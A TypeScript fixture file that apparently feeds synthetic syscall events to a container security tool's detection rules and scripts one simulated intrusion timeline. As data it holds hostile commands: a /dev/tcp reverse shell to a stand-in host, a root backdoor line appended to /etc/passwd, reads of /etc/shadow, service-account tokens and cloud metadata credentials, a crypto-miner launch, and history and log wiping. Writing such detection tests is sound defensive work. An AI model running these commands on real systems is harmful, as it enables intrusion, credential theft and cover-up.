// What happens on the fake platform: short descriptions of events, each of which one of the default rules catches.
import type { syntheticEvent } from '@guardcell/rules';

type EventSpec = Parameters<typeof syntheticEvent>[0];

export interface Scenario {
  readonly rule: string;
  /** `host`, or names of fake containers; one is picked each time. */
  readonly where: readonly string[];
  /** How often in a quiet day; 0 for what belongs to the one attack only. */
  readonly weight: number;
  readonly event: Omit<EventSpec, 'container' | 'timeNs' | 'num'>;
}

const SHIM = {
  name: 'containerd-shim',
  exePath: '/usr/bin/containerd-shim-runc-v2',
  args: '-namespace moby',
};
const API = {
  name: 'node',
  exePath: '/usr/local/bin/node',
  args: ['/app/dist/server.js'],
  cwd: '/app',
  uid: 1000,
};
const APACHE = { name: 'apache2', exePath: '/usr/sbin/apache2', args: ['-DFOREGROUND'], uid: 33 };
const SHELL = { name: 'sh', exePath: '/bin/sh', args: ['-c', 'id; uname -a'], cwd: '/app' };
const RUNNER = { name: 'gitlab-runner', exePath: '/usr/bin/gitlab-runner', args: ['run'] };
const BASH = { name: 'bash', exePath: '/usr/bin/bash', tty: 34816 };

export const SCENARIOS: readonly Scenario[] = [
  {
    rule: 'Interactive shell in container',
    where: ['notebook', 'shop-api', 'ci-runner', 'shop-cache'],
    weight: 26,
    event: { type: 'execve', process: { ...BASH, args: ['-l'], cwd: '/', parents: [SHIM] } },
  },
  {
    rule: 'File downloaded in container',
    where: ['ci-runner', 'notebook', 'build-4411'],
    weight: 34,
    event: {
      type: 'execve',
      process: {
        name: 'curl',
        exePath: '/usr/bin/curl',
        args: ['-fsSL', '-o', 'model.tar.gz', 'https://files.example.org/model.tar.gz'],
        cwd: '/home/build',
        uid: 1000,
        parents: [{ ...BASH, uid: 1000 }, RUNNER, SHIM],
      },
    },
  },
  {
    rule: 'Language packages installed in container',
    where: ['notebook', 'ci-runner'],
    weight: 22,
    event: {
      type: 'execve',
      process: {
        name: 'pip',
        exePath: '/opt/conda/bin/pip',
        args: ['install', 'polars==1.34.0'],
        cwd: '/home/jovyan',
        uid: 1000,
        parents: [{ name: 'jupyter-lab', exePath: '/opt/conda/bin/jupyter-lab', uid: 1000 }, SHIM],
      },
    },
  },
  {
    rule: 'Package manager run in container',
    where: ['ci-runner', 'build-4411', 'blog-php'],
    weight: 24,
    event: {
      type: 'execve',
      process: {
        name: 'apt-get',
        exePath: '/usr/bin/apt-get',
        args: ['install', '-y', 'netcat-openbsd'],
        parents: [{ ...BASH, args: ['-c', 'apt-get install -y netcat-openbsd'] }, SHIM],
      },
    },
  },
  {
    rule: 'Network tool started in container',
    where: ['shop-worker', 'blog-php'],
    weight: 14,
    event: {
      type: 'execve',
      process: {
        name: 'nc',
        exePath: '/usr/bin/nc',
        args: ['-w', '2', 'shop-db', '5432'],
        parents: [BASH, SHIM],
      },
    },
  },
  {
    rule: 'Program not in image executed',
    where: ['shop-worker', 'ci-runner'],
    weight: 16,
    event: {
      type: 'execve',
      process: {
        name: 'migrate',
        exePath: '/opt/bin/migrate',
        args: ['up'],
        exeUpperLayer: true,
        parents: [{ ...SHELL, args: ['/app/entry.sh'] }, SHIM],
      },
    },
  },
  {
    rule: 'Kubernetes API asked with shell tool',
    where: ['shop-worker'],
    weight: 5,
    event: {
      type: 'execve',
      process: {
        name: 'curl',
        exePath: '/usr/bin/curl',
        args: ['-sk', 'https://kubernetes.default.svc/api/v1/secrets'],
        parents: [SHELL, SHIM],
      },
    },
  },
  {
    rule: 'Service account token read by tool',
    where: ['shop-api', 'shop-worker'],
    weight: 6,
    event: {
      type: 'openat',
      fd: { name: '/run/secrets/kubernetes.io/serviceaccount/token' },
      process: {
        name: 'cat',
        exePath: '/bin/cat',
        args: ['/run/secrets/kubernetes.io/serviceaccount/token'],
        parents: [SHELL, API, SHIM],
      },
    },
  },
  {
    rule: 'Container runtime socket used from container',
    where: ['ci-runner'],
    weight: 12,
    event: {
      type: 'connect',
      fd: { type: 'unix', name: '/var/run/docker.sock' },
      process: {
        name: 'docker',
        exePath: '/usr/local/bin/docker',
        args: ['run', '--rm', 'registry.example.net/build/lint:7'],
        parents: [BASH, RUNNER, SHIM],
      },
    },
  },
  {
    rule: 'Shell started by server process',
    where: ['blog-php'],
    weight: 8,
    event: {
      type: 'execve',
      process: {
        name: 'sh',
        exePath: '/bin/dash',
        args: ['-c', 'identify /tmp/upload-8812.png; id'],
        cwd: '/var/www/html',
        uid: 33,
        parents: [APACHE, { ...APACHE, uid: 0 }, SHIM],
      },
    },
  },
  {
    rule: 'Program executed from temporary directory',
    where: ['blog-php'],
    weight: 4,
    event: {
      type: 'execve',
      process: {
        name: 'kdevtmpfsi',
        exePath: '/tmp/kdevtmpfsi',
        args: [],
        cwd: '/tmp',
        uid: 33,
        parents: [{ ...SHELL, uid: 33, cwd: '/tmp', args: ['-c', '/tmp/kdevtmpfsi'] }, APACHE, SHIM],
      },
    },
  },
  {
    rule: 'Server process wrote script into web directory',
    where: ['blog-php'],
    weight: 3,
    event: {
      type: 'openat',
      fd: { name: '/var/www/html/wp-content/uploads/2026/03/thumb.php' },
      params: { flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], mode: '0644' },
      process: {
        ...APACHE,
        startedMsAgo: 86_400_000,
        parents: [{ ...APACHE, uid: 0 }, SHIM],
      },
    },
  },
  {
    rule: 'Cloud metadata service contacted by tool',
    where: ['shop-api'],
    weight: 3,
    event: {
      type: 'connect',
      fd: { type: 'ipv4', client: '172.18.0.3:41422', server: '169.254.169.254:80' },
      process: {
        name: 'curl',
        exePath: '/usr/bin/curl',
        args: ['-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
        parents: [SHELL, API, SHIM],
      },
    },
  },
  {
    rule: 'Shell history removed or disabled',
    where: ['host'],
    weight: 2,
    event: {
      type: 'unlinkat',
      params: { name: '/root/.bash_history' },
      path: '/root/.bash_history',
      process: {
        name: 'rm',
        exePath: '/usr/bin/rm',
        args: ['-f', '/root/.bash_history'],
        cwd: '/root',
        tty: 34817,
        parents: [
          { ...BASH, args: ['-l'], tty: 34817 },
          { name: 'sshd', exePath: '/usr/sbin/sshd' },
          { name: 'systemd', pid: 1, exePath: '/usr/lib/systemd/systemd' },
        ],
      },
    },
  },
  {
    rule: 'Standard stream redirected to network socket',
    where: ['shop-api'],
    weight: 0,
    event: {
      type: 'dup2',
      result: 2,
      fd: { num: 3, type: 'ipv4', client: '172.18.0.3:40112', server: '203.0.113.66:4444' },
      process: {
        name: 'bash',
        exePath: '/usr/bin/bash',
        args: ['-i'],
        cwd: '/app',
        uid: 1000,
        parents: [
          { ...SHELL, uid: 1000, args: ['-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'] },
          API,
          { name: 'tini', exePath: '/usr/bin/tini', args: ['--', 'node', '/app/dist/server.js'] },
          SHIM,
        ],
      },
    },
  },
  {
    rule: 'Account file written in container',
    where: ['payments-api', 'shop-api'],
    weight: 0,
    event: {
      type: 'openat',
      fd: { name: '/etc/passwd' },
      params: { flags: ['O_WRONLY', 'O_APPEND', 'O_CREAT'] },
      process: {
        name: 'sh',
        exePath: '/bin/sh',
        args: ['-c', 'echo svc::0:0::/:/bin/sh >> /etc/passwd'],
        cwd: '/tmp',
        parents: [
          { name: 'java', exePath: '/opt/java/bin/java', args: ['-jar', '/app/payments.jar'], cwd: '/app' },
          { name: 'tini', exePath: '/usr/bin/tini', args: ['--', 'java', '-jar', '/app/payments.jar'] },
          SHIM,
        ],
      },
    },
  },
  {
    rule: 'Password hashes read in container',
    where: ['shop-api', 'payments-api'],
    weight: 0,
    event: {
      type: 'openat',
      fd: { name: '/etc/shadow' },
      process: {
        name: 'cat',
        exePath: '/bin/cat',
        args: ['/etc/shadow'],
        parents: [{ ...BASH, args: ['-i'] }, SHELL, API, SHIM],
      },
    },
  },
  {
    rule: 'Cryptocurrency miner started',
    where: ['blog-php'],
    weight: 0,
    event: {
      type: 'execve',
      process: {
        name: 'xmrig',
        exePath: '/tmp/.x/xmrig',
        args: ['-o', 'stratum+tcp://pool.example.net:3333', '-u', '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq'],
        cwd: '/tmp/.x',
        uid: 33,
        exeUpperLayer: true,
        parents: [{ ...SHELL, uid: 33, cwd: '/tmp/.x', args: ['./run.sh'] }, APACHE, SHIM],
      },
    },
  },
  {
    rule: 'Connection to mining pool port',
    where: ['blog-php'],
    weight: 0,
    event: {
      type: 'connect',
      fd: { type: 'ipv4', client: '172.18.0.7:51934', server: '203.0.113.9:3333' },
      process: {
        name: 'xmrig',
        exePath: '/tmp/.x/xmrig',
        exeUpperLayer: true,
        cwd: '/tmp/.x',
        uid: 33,
        parents: [{ ...SHELL, uid: 33, cwd: '/tmp/.x', args: ['./run.sh'] }, APACHE, SHIM],
      },
    },
  },
  {
    rule: 'Log deleted or emptied',
    where: ['blog-php'],
    weight: 1,
    event: {
      type: 'openat',
      fd: { name: '/var/log/apache2/access.log' },
      params: { flags: ['O_WRONLY', 'O_TRUNC'] },
      process: {
        name: 'sh',
        exePath: '/bin/sh',
        args: ['-c', ': > /var/log/apache2/access.log'],
        parents: [BASH, SHIM],
      },
    },
  },
];

/** One attack, as minutes before now and the rule that sees it. The first is the newest alert of all. */
export const ATTACK: readonly (readonly [minutesAgo: number, rule: string, where: string])[] = [
  [3, 'Standard stream redirected to network socket', 'shop-api'],
  [2.5, 'Password hashes read in container', 'shop-api'],
  [2, 'Account file written in container', 'shop-api'],
  [141, 'Server process wrote script into web directory', 'blog-php'],
  [140, 'Shell started by server process', 'blog-php'],
  [138, 'Cryptocurrency miner started', 'blog-php'],
  [137.8, 'Connection to mining pool port', 'blog-php'],
  [137, 'Connection to mining pool port', 'blog-php'],
  [136, 'Connection to mining pool port', 'blog-php'],
  [135, 'Log deleted or emptied', 'blog-php'],
  [612, 'Account file written in container', 'payments-api'],
  [611, 'Password hashes read in container', 'payments-api'],
];
